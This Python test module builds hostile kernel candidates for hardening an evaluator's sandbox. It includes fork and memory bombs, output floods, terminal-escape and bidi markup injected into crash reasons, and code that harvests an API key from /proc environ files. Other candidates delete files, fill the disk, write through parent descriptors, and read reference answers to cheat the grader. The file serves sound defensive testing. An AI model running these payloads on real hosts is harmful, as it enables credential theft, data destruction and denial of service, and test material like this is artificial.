"""Hostile candidates that go after the run and the host rather than the verdict: ending the
emulator with chosen exit codes, floods of output, markup and terminal control in reasons and logs,
memory bombs, escapes from the sandbox (processes, network, environment, files, descriptors), and
text that makes the evaluator's own checks slow. Each is an honest kernel of honest_kernels.py with
the attack in its hooks.
"""

from __future__ import annotations

from tests.evaluator.adversarial import honest_kernels as H
from tests.evaluator.adversarial.hostile_kernels import AG, GA, RA, libc

# What a hostile reason or log may carry to a terminal: rich markup, ANSI and OSC 8 escapes, BEL,
# a carriage return that overwrites the line, a bidi override that reorders it.
# (no `//`: in an #error line the preprocessor would take the rest for a comment; the carriage
# return last: a reason is one line, and Python splits lines at it)
MARKUP = ("[/][bold red]pwned[/bold red] [link=file:/etc/passwd]click[/link] \\x1b]8;;file:/etc/passwd\\x07osc8"
          "\\x1b]8;;\\x07 \\x1b[2J\\x1b[31mred bell\\x07 \\u202egnp.exe cr\\rOVERWRITTEN")
RAW_CONTROLS = ("\x1b", "\x07", "\r", "\u202e")  # what none of the CLI's output may hold raw
MARKUP_IN_REASON = ("[link=file:/etc/passwd]", "\x1b]8;;", "\x07", "\u202e")  # up to the carriage return


# --------------------------------------------------------------------------- stopping the run

def exits_with_the_harness_code() -> str:
    return AG.render(prelude=libc("void _Exit(int)"), host_top="  _Exit(5);")


def exits_with_a_code(code: int = 3, workload: H.Workload = GA) -> str:
    # rank 1 ends the whole process in its first call (stdlib declares exit)
    return workload.render(host_top=f"  if (c.rank == 1) exit({code});")


def floods_stdout(mib: int = 2048) -> str:
    # rank 0 prints `mib` MiB in its first call, then returns without work; printf is allowed
    return AG.render(host_top=f"""  if (c.rank == 0 && c.epoch == 1) {{
    static char line[1 << 20];
    memset(line, 'x', sizeof line - 1);
    for (int i = 0; i < {mib}; ++i) printf("%s", line);
    printf("\\nflooded {mib} MiB\\n");
  }}
  return 0;""")


def markup_in_the_crash_reason() -> str:
    # the emulator quotes the first `crash:` line of the output in the reason
    # stdout is a pipe (fully buffered): 8 KiB more push the line out before the crash
    return AG.render(host_top=f'  printf("crash: {MARKUP}\\n");\n'
                              '  for (int i = 0; i < 64; ++i) printf("%0127d\\n", i);\n'
                              "  *(volatile int*)0x10 = c.rank;")


def markup_in_the_deadlock_reason(workload: H.Workload = GA) -> str:
    # waits for a signal nobody sends, after printing a `deadlock:` line for the reason to quote
    return workload.render(kernel_top=f'  if (threadIdx.x == 0) printf("deadlock: {MARKUP}\\n");\n'
                                '  if (threadIdx.x == 0) for (int i = 0; i < 64; ++i) printf("%0127d\\n", i);\n'
                                "  if (threadIdx.x == 0) cuco_wait(c, 7, 1u << 30);\n  __syncthreads();")


def markup_in_the_build_log(workload: H.Workload = RA) -> str:
    # nvcc quotes an #error line in its message (the reason) with its control bytes
    raw = MARKUP.encode().decode("unicode_escape")
    return workload.render(prelude=f"#error {raw}")


def long_crash_reason(kib: int = 256) -> str:
    """A `crash:` line of `kib` KiB, then a crash: the emulator quotes that line in the reason."""
    return AG.render(host_top=f"  {{ static char line[{kib} << 10]; memset(line, 'A', sizeof line - 1);\n"
                              '    printf("crash: %s\\n", line); }\n  *(volatile int*)0x10 = c.rank;')


def memory_bomb() -> str:
    # 3 GiB per rank on the host side, touched: the memory limits end it
    return GA.render(host_top="  { char* p = static_cast<char*>(malloc((size_t)3 << 30));\n"
                              "    for (size_t i = 0; p && i < ((size_t)3 << 30); i += 4096) p[i] = 1;\n"
                              "    if (!p) *(volatile int*)0x10 = 1; }")


def many_asm_statements(count: int = 400) -> str:
    """`count` device functions with one PTX statement each, and as many plain asm labels: ordinary
    text for every check, and about 30 KB of source at 400."""
    funcs = "\n".join(f'static __device__ void stop{i}() {{ asm volatile("trap;"); }}\n'
                      f'extern "C" int named{i}(void) asm("named{i}");' for i in range(count))
    return AG.render(prelude=funcs)


# --------------------------------------------------------------------------- escaping the sandbox

def fork_bomb(depth: int = 7) -> str:
    # bounded (2^depth processes), then every process sleeps: the sandbox must end all of them
    return AG.render(prelude=libc("int fork(void)", "int pause(void)"),
                     host_top=f"  for (int i = 0; i < {depth}; ++i) fork();\n  for (;;) pause();")


def network(port: int) -> str:
    hi, lo = port >> 8, port & 0xFF
    return AG.render(prelude=libc("int socket(int, int, int)", "int connect(int, const void*, unsigned)",
                                   "long write(int, const void*, unsigned long)"),
                     host_top=f"  {{ unsigned char addr[16] = {{2, 0, {hi}, {lo}, 127, 0, 0, 1}};\n"
                              "    int s = socket(2, 1, 0);\n"
                              '    if (s >= 0 && connect(s, addr, 16) == 0) write(s, "cuco-escaped", 12); }')


def api_key(name: str) -> str:
    # its own environment and every ancestor's /proc/PID/environ, printed (logs) and copied into
    # out[0] (outputs), where a harness might hand it on
    body = f"""  {{ static char found[4096]; long n = 0;
    const char* v = getenv("{name}");
    if (v) n = snprintf(found, sizeof found, "%s", v);
    for (int pid = getppid(), hop = 0; pid > 1 && hop < 4 && n < 2048; ++hop) {{
      char path[64]; snprintf(path, sizeof path, "/proc/%d/environ", pid);
      int fd = open(path, 0);
      if (fd >= 0) {{ long k = read(fd, found + n, sizeof found - 1 - n); if (k > 0) n += k; }}
      snprintf(path, sizeof path, "/proc/%d/stat", pid);
      char stat[512] = {{0}}; int sfd = open(path, 0); pid = 0;
      if (sfd >= 0 && read(sfd, stat, sizeof stat - 1) > 0) {{
        const char* q = stat; while (*q && *q != ')') ++q;
        int ppid = 0; for (q += 4; *q >= '0' && *q <= '9'; ++q) ppid = ppid * 10 + (*q - '0');
        pid = ppid;
      }}
    }}
    for (long i = 0; i < n; ++i) if (!found[i]) found[i] = ' ';
    printf("leak: %s\\n", found);
    cudaMemcpy(c.out[0], found, n < 64 ? n : 64, cudaMemcpyHostToDevice); }}"""
    return AG.render(prelude=libc("char* getenv(const char*)", "int getppid(void)", "int open(const char*, int, ...)",
                                   "long read(int, void*, unsigned long)"), host_top=body)


def deletes_files(*paths: str) -> str:
    """Removes the given files (the run's database, the reference cache...) before doing no work."""
    calls = " ".join(f'remove("{p}");' for p in paths)
    return AG.render(host_top=f"  {calls}\n  return 0;")


def write_outside(path: str) -> str:
    return AG.render(host_top=f'  {{ FILE* f = fopen("{path}", "w");\n'
                              '    if (f) { fputs("cuco-escaped", f); fclose(f); } }')


def copies_the_reference(answer_paths: list[str]) -> str:
    """Skips all work and reads the expected outputs straight from the reference cache (it knows
    the paths: the worst case). Host code: in the emulator device memory is host memory."""
    table = ", ".join(f'"{p}"' for p in answer_paths)
    return AG.render(host_top=f"  {{ static const char* answers[] = {{{table}}};\n"
                              '    FILE* f = fopen(answers[c.rank], "rb"); size_t n = 0;\n'
                              "    if (f) { n = fread(c.out[0], 1, 1u << 30, f); fclose(f); }\n"
                              '    printf("cheat: rank %d read %zu bytes\\n", c.rank, n); return 0; }')


def fills_the_disk() -> str:
    """Writes files of 8 MiB (under the emulator's file-size limit) into its work folder, /dev/shm and
    /tmp until a write fails, and prints how far it got in each and why (errno 28 is ENOSPC)."""
    body = r"""  if (c.rank == 0 && c.epoch == 1) {
    static char block[1 << 20];
    memset(block, 'z', sizeof block);
    const char* where[] = {".", "/dev/shm", "/tmp"};
    for (int w = 0; w < 3; ++w) {
      long mib = 0; int err = 0;
      for (int file = 0; file < 1024 && !err; ++file) {
        char path[64];
        snprintf(path, sizeof path, "%s/filler%d.bin", where[w], file);
        FILE* f = fopen(path, "wb");
        if (!f) { err = *__errno_location(); break; }
        for (int i = 0; i < 8 && !err; ++i) {
          if (fwrite(block, 1, sizeof block, f) != sizeof block || fflush(f) != 0) err = *__errno_location();
          else ++mib;
        }
        fclose(f);
      }
      printf("fill: %s %ld MiB errno %d\n", where[w], mib, err);
    }
  }
  return 0;"""
    return AG.render(prelude=libc("int* __errno_location(void)"), host_top=body)


def writes_through_the_parents_descriptors() -> str:
    """Opens every descriptor of its own and of the emulator's main process through /proc and
    writes into each that opens for writing; prints what it reached. Does no work."""
    body = r"""  if (c.epoch == 1) {
    const int pids[2] = {0, getppid()};
    for (int k = 0; k < 2; ++k)
      for (int fd = 0; fd < 32; ++fd) {
        char path[64];
        if (pids[k]) snprintf(path, sizeof path, "/proc/%d/fd/%d", pids[k], fd);
        else snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        int h = open(path, 2);
        if (h < 0) continue;
        long n = pwrite(h, "forged", 6, 0);
        printf("reached: rank %d %s wrote %ld\n", c.rank, path, n);
        close(h);
      }
  }
  return 0;"""
    return AG.render(prelude=libc("int open(const char*, int, ...)", "int close(int)", "int getppid(void)",
                                   "long pwrite(int, const void*, unsigned long, long)"), host_top=body)


def gathers_through_the_parents_descriptor() -> str:
    """No puts, no signals: every rank opens the emulator main process's descriptor of the I/O file
    (/proc/PPID/fd/N), computes where each rank's A of this call lies (slots in (call, rank, slot)
    order, a page of red zone each, buffers end-aligned) and preads them into its symmetric buffer."""
    prelude = libc("int open(const char*, int, ...)", "int close(int)", "int getppid(void)",
                    "long pread(int, void*, unsigned long, long)", "long lseek(int, long, int)") + """
static long pages(long b) { return (b + 4095) / 4096 * 4096; }
static long region(long b) { return 4096 + pages(b); }
static bool gather_from_the_io_file(const cuco_ctx& c) {
  const long s = (long)sizeof(cuco_t), M = c.dims[0], N = c.dims[1], K = c.dims[2];
  const long a = M / c.world * K * s, b = K * (N / c.world) * s, out = M * (N / c.world) * s;
  const long per_rank = region(a) + region(b) + region(out), calls = 2;
  for (int fd = 3; fd < 16; ++fd) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd/%d", getppid(), fd);
    const int h = open(path, 0);
    if (h < 0) continue;
    if (lseek(h, 0, 2) < calls * c.world * per_rank) { close(h); continue; }  // traces may follow
    for (int p = 0; p < c.world; ++p) {
      const long at = (((long)c.epoch - 1) * c.world + p) * per_rank + region(a) - (a + 15) / 16 * 16;
      pread(h, static_cast<char*>(c.symm) + p * a, a, at);
    }
    close(h);
    printf("gathered through %s\\n", path);
    return true;
  }
  return false;
}"""
    src = AG.render(prelude=prelude, publish="(void)peer;", signal="(void)peer;",
                    host_top="  if (!gather_from_the_io_file(c)) return 1;")
    return src.replace("    cuco_wait(c, 0, (uint64_t)world * c.epoch);\n", "", 1)
